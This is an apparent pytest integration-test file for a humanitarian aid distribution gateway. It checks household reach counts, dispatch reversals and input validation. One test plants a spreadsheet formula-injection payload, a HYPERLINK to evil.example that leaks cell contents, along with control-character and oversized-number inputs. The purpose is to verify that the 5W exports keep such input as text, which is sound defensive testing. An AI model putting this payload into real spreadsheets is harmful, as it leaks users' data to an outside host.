"""Distribution through the gateway, as partners and coordinators use it, against the real
stock, needs and distribution services, broker and store (issue #12): households reached count
once per need, the 5W exports stay data, and a reversed dispatch reaches the plan and the need."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from typing import Any

import httpx
import pytest
from kitflow_shared.contracts import needs as needs_contract
from kitflow_shared.events.envelope import CloudEvent, EventContext
from kitflow_shared.messaging.producer import EventProducer
from kitflow_shared.settings import KafkaSettings
from kitflow_shared.topics import NEEDS_EVENTS, STOCK_EVENTS
from kitflow_shared.web.identity import Role
from openpyxl import load_workbook

from tests.integration.gateway.test_gateway_api import (
    System,
    _caller,
    _organisation,
    running_system,
)
from tests.support.infra import Infra
from tests.support.kafka import eventually, read_topic

pytestmark = pytest.mark.infra


@dataclass
class Gateway:
    system: System
    namespace: str
    kafka: str
    coordinator: dict[str, str]

    @property
    def client(self) -> httpx.AsyncClient:
        return self.system.client

    @property
    def admin(self) -> dict[str, str]:
        return self.system.admin


@pytest.fixture(scope="module")
async def gateway(infra: Infra) -> AsyncIterator[Gateway]:
    namespace = f"t{uuid.uuid4().hex[:10]}"
    async with running_system(infra, namespace) as system:
        item = {"name_fr": "Bâche", "category": "shelter", "unit": "piece"}
        tarp = await system.client.post(
            "/v1/items", headers=system.admin, json={"code": "TARP", "name_en": "Tarp", **item}
        )
        assert tarp.status_code == 201, tarp.text
        coordinator = await _caller(system, "IOM", Role.COORDINATOR)
        yield Gateway(system, namespace, infra.kafka_bootstrap, coordinator)


async def _ok(response: httpx.Response, status: int = 200) -> Any:
    assert response.status_code == status, response.text
    return response.json()


def _need(site: str, households: int, items: dict[str, int]) -> dict[str, Any]:
    return {
        "location": {"admin1_pcode": "ML05", "admin2_pcode": "ML0501", "site_name": site},
        "population": {"households": households, "individuals": households * 5},
        "displacement_status": "idp",
        "assessment": {"date": "2026-11-20", "source": "partner-assessment"},
        "severity": 4,
        "items": [{"item_code": code, "quantity": qty} for code, qty in items.items()],
    }


async def _validated_need(g: Gateway, partner: dict[str, str], body: dict[str, Any]) -> str:
    need = await _ok(await g.client.post("/v1/needs", headers=partner, json=body), 201)
    need_id = str(need["id"])
    await _ok(await g.client.post(f"/v1/needs/{need_id}/validate", headers=g.coordinator))
    await eventually(
        lambda: g.client.get("/v1/views/needs", headers=g.coordinator),
        lambda r: any(n["need_id"] == need_id and n["status"] == "validated" for n in r.json()),
        what=f"need {need_id} in distribution's view",
    )
    return need_id


async def _receive(g: Gateway, items: dict[str, int]) -> None:
    """Receive into BKO-MAIN, and wait until distribution's stock view has the receipt."""
    receipt = await _ok(
        await g.client.post(
            "/v1/warehouses/BKO-MAIN/receipts",
            headers=g.admin,
            json={
                "grn_number": f"GRN-{uuid.uuid4().hex[:8]}",
                "source": "ECHO",
                "lines": [{"item_code": c, "quantity": q} for c, q in items.items()],
            },
        ),
        201,
    )
    on_hand = {x["item_code"]: x["on_hand_after"] for x in receipt["lines"]}
    await eventually(
        lambda: g.client.get("/v1/views/stock", headers=g.coordinator),
        lambda r: (
            on_hand.items()
            <= {
                x["balance"]["item_code"]: x["balance"]["on_hand"]
                for x in r.json()
                if x["warehouse"] == "BKO-MAIN"
            }.items()
        ),
        what="the receipt in distribution's stock view",
    )


async def _plan(g: Gateway, plan_id: str) -> dict[str, Any]:
    plan: dict[str, Any] = await _ok(
        await g.client.get(f"/v1/plans/{plan_id}", headers=g.coordinator)
    )
    return plan


async def _dispatched_plan(g: Gateway, need_ids: list[str], lines: int) -> dict[str, Any]:
    """A plan for these needs, drafted, approved, reserved and dispatched through the saga."""
    drafted = await _ok(
        await g.client.post(
            "/v1/plans",
            headers=g.coordinator,
            json={"title": f"Round {uuid.uuid4().hex[:6]}", "need_ids": need_ids},
        ),
        201,
    )
    assert len(drafted["lines"]) == lines, drafted["lines"]
    plan_id = drafted["plan_id"]
    await _ok(await g.client.post(f"/v1/plans/{plan_id}/approve", headers=g.coordinator, json={}))
    reserved = await eventually(
        lambda: _plan(g, plan_id),
        lambda p: p["status"] in ("reserved", "partly-reserved"),
        what="stock answered every line",
    )
    assert reserved["status"] == "reserved", reserved
    await _ok(
        await g.client.post(
            f"/v1/plans/{plan_id}/dispatch",
            headers=g.coordinator,
            json={"waybill_number": f"WB-{plan_id}", "destination": "Mopti sites"},
        )
    )
    return await eventually(
        lambda: _plan(g, plan_id),
        lambda p: p["status"] == "dispatched",
        what="stock issued every line",
    )


def _delivery(
    need_id: str, households: int, lines: dict[str, int], note: str | None = None
) -> dict[str, Any]:
    body: dict[str, Any] = {
        "need_id": need_id,
        "lines": [{"line_id": line_id, "quantity": q} for line_id, q in lines.items()],
        "households": households,
        "individuals": households * 5,
    }
    return {**body, "note": note} if note else body


async def _deliver(
    g: Gateway,
    partner: dict[str, str],
    plan_id: str,
    need_id: str,
    households: int,
    lines: dict[str, int],
    note: str | None = None,
) -> dict[str, Any]:
    plan: dict[str, Any] = await _ok(
        await g.client.post(
            f"/v1/plans/{plan_id}/deliveries",
            headers=partner,
            json={"deliveries": [_delivery(need_id, households, lines, note)]},
        )
    )
    return plan


async def _five_w(g: Gateway, caller: dict[str, str]) -> list[list[str]]:
    report = await g.client.get("/v1/reports/5w.csv", headers=caller)
    assert report.status_code == 200, report.text
    return list(csv.reader(io.StringIO(report.text)))


def _row_of(rows: list[list[str]], plan_id: str) -> dict[str, str]:
    [row] = [r for r in rows[2:] if plan_id in r[rows[0].index("Remarques")]]
    return dict(zip(rows[0], row, strict=True))


# ---- item 1: households reached belong to the need, not to each item line -------------------


async def test_households_reached_count_once_per_need_not_once_per_item_line(
    gateway: Gateway,
) -> None:
    g = gateway
    partner = await _caller(g.system, await _organisation(g.system, "REACH"), Role.PARTNER)
    need_id = await _validated_need(
        g, partner, _need("Sévaré 5", 150, {"BLANKET": 150, "TARP": 170})
    )
    await _receive(g, {"BLANKET": 150, "TARP": 150})
    plan = await _dispatched_plan(g, [need_id], lines=2)
    plan_id = plan["plan_id"]
    blankets, tarps = sorted(plan["lines"], key=lambda x: x["item_code"])

    # The same 100 households (500 people) each received a blanket and a tarpaulin.
    delivered = await _deliver(
        g, partner, plan_id, need_id, 100, {blankets["line_id"]: 100, tarps["line_id"]: 100}
    )
    assert delivered["reached"] == [
        {
            "need_id": need_id,
            "households": 100,
            "individuals": 500,
            "note": None,
            "delivered_on": None,
        }
    ]

    need = await eventually(
        lambda: g.client.get(f"/v1/needs/{need_id}", headers=partner),
        lambda r: (
            {x["item_code"]: x["delivered"] for x in r.json()["items"]}
            == {"BLANKET": 100, "TARP": 100}
        ),
        what="the deliveries reached the need",
    )
    assert (need.json()["households_reached"], need.json()["individuals_reached"]) == (100, 500)
    row = _row_of(await _five_w(g, g.coordinator), plan_id)
    assert (row["Total ménages ciblés"], row["Total ménages atteints"]) == ("150", "100")
    assert (row["Total Personnes ciblées"], row["Total No. atteintes"]) == ("750", "500")

    # A week later, 50 other households get the rest: 150 reached, as targeted.
    await _deliver(g, partner, plan_id, need_id, 50, {x["line_id"]: 50 for x in (blankets, tarps)})
    row = _row_of(await _five_w(g, g.coordinator), plan_id)
    assert (row["Total ménages atteints"], row["Total No. atteintes"]) == ("150", "750")
    assert row["Remarques"] == f"plan {plan_id}"

    # Beyond what was targeted only with the reason, which the 5W then gives.
    await _receive(g, {"TARP": 20})
    top_up = await _dispatched_plan(g, [need_id], lines=1)
    [extra] = top_up["lines"]
    refused = await g.client.post(
        f"/v1/plans/{top_up['plan_id']}/deliveries",
        headers=partner,
        json={"deliveries": [_delivery(need_id, 20, {extra["line_id"]: 20})]},
    )
    assert refused.status_code == 422, refused.text
    assert refused.json()["errors"][0]["field"] == "body.deliveries[0].note"
    why = "20 households arrived from Ségou after the assessment"
    await _deliver(g, partner, top_up["plan_id"], need_id, 20, {extra["line_id"]: 20}, note=why)
    need = await eventually(
        lambda: g.client.get(f"/v1/needs/{need_id}", headers=partner),
        lambda r: r.json()["households_reached"] == 170,
        what="both plans' reach at the need",
    )
    assert need.json()["individuals_reached"] == 850
    row = _row_of(await _five_w(g, g.coordinator), top_up["plan_id"])
    assert (row["Total ménages ciblés"], row["Total ménages atteints"]) == ("150", "20")
    assert why in row["Remarques"]


# ---- item 2: the 5W stays data whatever a partner typed ---------------------------------------

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Sévaré")'


async def _rename_in_distribution_view(g: Gateway, need_id: str, site_name: str) -> None:
    """Publish a newer state of the need with `site_name`, as older or imported data could carry
    it whatever today's intake refuses: distribution's view takes it as it comes."""
    records = await read_topic(g.kafka, NEEDS_EVENTS.qualified(g.namespace), expect=1)
    latest = max(
        (CloudEvent.from_bytes(r.value) for r in records if r.key == f"need/{need_id}".encode()),
        key=lambda e: e.sequence,
    )
    state = needs_contract.NEED_UPDATED.payload.model_validate(latest.data)
    state.site_name = site_name
    event = needs_contract.NEED_UPDATED.new(
        state, subject=latest.subject, sequence=latest.sequence + 100, context=EventContext.new()
    )
    producer = EventProducer(KafkaSettings(bootstrap_servers=g.kafka), client_id="tests")
    await producer.start()
    try:
        await producer.publish(NEEDS_EVENTS.qualified(g.namespace), [event])
    finally:
        await producer.stop()
    await eventually(
        lambda: g.client.get("/v1/views/needs", headers=g.coordinator),
        lambda r: any(n["need_id"] == need_id and n["site_name"] == site_name for n in r.json()),
        what="the renamed need in distribution's view",
    )


async def test_the_5w_exports_keep_formulas_and_control_characters_as_text(
    gateway: Gateway,
) -> None:
    g = gateway
    partner = await _caller(g.system, await _organisation(g.system, "INJECT"), Role.PARTNER)
    formula_need = await _validated_need(g, partner, _need(FORMULA, 10, {"BLANKET": 10}))
    bell_need = await _validated_need(g, partner, _need("Konna", 10, {"BLANKET": 10}))
    await _rename_in_distribution_view(g, bell_need, "Konna\x07 camp\x1b")
    await _receive(g, {"BLANKET": 20})
    plan = await _dispatched_plan(g, [formula_need, bell_need], lines=2)

    rows = await _five_w(g, g.coordinator)
    remarks, village = rows[0].index("Remarques"), rows[0].index("Village")
    sites = {r[village] for r in rows[2:] if plan["plan_id"] in r[remarks]}
    assert sites == {"'" + FORMULA, "Konna\x07 camp\x1b"}
    for row in rows:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row

    xlsx = await g.client.get("/v1/reports/5w.xlsx", headers=g.coordinator)
    assert xlsx.status_code == 200, xlsx.text
    sheet = load_workbook(io.BytesIO(xlsx.content))["ML_5W"]
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"], "a formula in the 5W"
    village = [c.value for c in next(sheet.iter_rows(max_row=1))].index("Village") + 1
    written = {sheet.cell(r, village).value for r in range(3, sheet.max_row + 1)}
    assert {"'" + FORMULA, "Konna camp"} <= written


# ---- item 11: a reversed dispatch goes back on the plan and on the need ------------------------


async def test_a_reversed_plan_dispatch_goes_back_on_the_plan_and_the_need(
    gateway: Gateway,
) -> None:
    g = gateway
    partner = await _caller(g.system, await _organisation(g.system, "REVERSE"), Role.PARTNER)
    need_id = await _validated_need(g, partner, _need("Fatoma", 40, {"BLANKET": 40}))
    await _receive(g, {"BLANKET": 40})
    plan = await _dispatched_plan(g, [need_id], lines=1)
    [line] = plan["lines"]
    assert line["dispatched"] == 40
    await eventually(
        lambda: g.client.get(f"/v1/needs/{need_id}", headers=partner),
        lambda r: r.json()["items"][0]["dispatched"] == 40,
        what="the dispatch reached the need",
    )

    # The storekeeper finds the plan's dispatch on the stock card and reverses it.
    card = await _ok(
        await g.client.get("/v1/warehouses/BKO-MAIN/stock/BLANKET/card?limit=1000", headers=g.admin)
    )
    [dispatch] = [x for x in card["rows"] if x["plan_line_id"] == line["line_id"]]
    reversal = await _ok(
        await g.client.post(
            f"/v1/warehouses/BKO-MAIN/movements/{dispatch['movement_id']}/reversal",
            headers=g.admin,
            json={"note": "truck turned back at Konna"},
        ),
        201,
    )

    plan = await eventually(
        lambda: _plan(g, plan["plan_id"]),
        lambda p: p["lines"][0]["dispatched"] == 0,
        what="the plan saw the reversal",
    )
    assert plan["lines"][0]["returned"] == 40
    need = await eventually(
        lambda: g.client.get(f"/v1/needs/{need_id}", headers=partner),
        lambda r: r.json()["items"][0]["dispatched"] == 0,
        what="the reversal reached the need",
    )
    item = need.json()["items"][0]
    # Nothing is on its way any more: the need is open for the next plan again.
    assert (item["planned"], item["remaining"]) == (0, 40)
    row = _row_of(await _five_w(g, g.coordinator), plan["plan_id"])
    assert "BLANKET x 40" in row["Remarques"].split("retourné à l'entrepôt")[1]

    # The reversal event delivered again (a redelivery after a crash) changes nothing.
    records = await read_topic(g.kafka, STOCK_EVENTS.qualified(g.namespace), expect=1)
    [event] = [
        e
        for e in (CloudEvent.from_bytes(r.value) for r in records)
        if e.data.get("movement", {}).get("movement_id") == reversal["movement_id"]
    ]
    version = plan["version"]
    stock = await _ok(await g.client.get("/v1/warehouses/BKO-MAIN/stock", headers=g.admin))
    [on_hand] = [x["on_hand"] for x in stock["items"] if x["item_code"] == "BLANKET"]
    producer = EventProducer(KafkaSettings(bootstrap_servers=g.kafka), client_id="tests")
    await producer.start()
    try:
        await producer.publish(STOCK_EVENTS.qualified(g.namespace), [event])
    finally:
        await producer.stop()
    # A later event on the same partition shows the redelivery was consumed before it.
    await _receive(g, {"BLANKET": 1})
    await eventually(
        lambda: g.client.get("/v1/views/stock", headers=g.coordinator),
        lambda r: any(
            (x["warehouse"], x["balance"]["item_code"]) == ("BKO-MAIN", "BLANKET")
            and x["balance"]["on_hand"] == on_hand + 1
            for x in r.json()
        ),
        what="the stock view after the redelivery",
    )
    again = await _plan(g, plan["plan_id"])
    assert again["version"] == version
    assert again["lines"][0]["dispatched"] == 0


# ---- item 7, for deliveries: out-of-range numbers and control characters are 422s ------------


async def test_a_delivery_with_a_huge_number_or_a_control_character_is_a_clear_422(
    gateway: Gateway,
) -> None:
    g = gateway
    partner = await _caller(g.system, await _organisation(g.system, "BOUNDS"), Role.PARTNER)
    need_id = await _validated_need(g, partner, _need("Mopti Digue", 10, {"BLANKET": 10}))
    await _receive(g, {"BLANKET": 10})
    plan = await _dispatched_plan(g, [need_id], lines=1)
    [line] = plan["lines"]
    good = _delivery(need_id, 1, {line["line_id"]: 1})
    for field, value in (
        ("households", 2**63),
        ("individuals", 2**64),
        ("quantity", 2**63),
        ("line_id", line["line_id"] + "\x00"),
        ("need_id", need_id + "\x1b"),
        ("note", "new arrivals\x00"),
    ):
        if field in ("quantity", "line_id"):
            bad = {**good, "lines": [{**good["lines"][0], field: value}]}
        else:
            bad = {**good, field: value}
        response = await g.client.post(
            f"/v1/plans/{plan['plan_id']}/deliveries",
            headers=partner,
            json={"deliveries": [bad]},
        )
        assert response.status_code == 422, (field, response.status_code, response.text)
        assert response.headers["content-type"] == "application/problem+json"
        assert any(field in e["field"] for e in response.json()["errors"]), response.text
    # Nothing was half-applied.
    after = await _plan(g, plan["plan_id"])
    assert after["lines"][0]["delivered"] == 0
